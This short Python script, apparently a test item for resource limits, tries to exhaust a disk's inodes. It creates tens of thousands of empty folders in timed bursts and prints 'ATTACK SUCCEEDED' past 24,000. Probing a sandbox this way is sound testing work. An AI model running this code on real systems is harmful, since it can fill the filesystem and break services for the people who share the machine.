# attacks = "the disk's inodes, by tens of thousands of empty folders"
# %% own
import os, time
def more(seconds, made=[0]):
    end = time.perf_counter() + seconds
    try:
        while time.perf_counter() < end:
            os.mkdir(f"folder{made[0]}")
            made[0] += 1
    except OSError:
        pass
    return made[0]
more(0.8)
# %% own
more(0.8)
# %% own
more(0.8)
# %% own
made = more(0.1)
time.sleep(0.7)
if made > 24_000:
    print("ATTACK " + "SUCCEEDED")
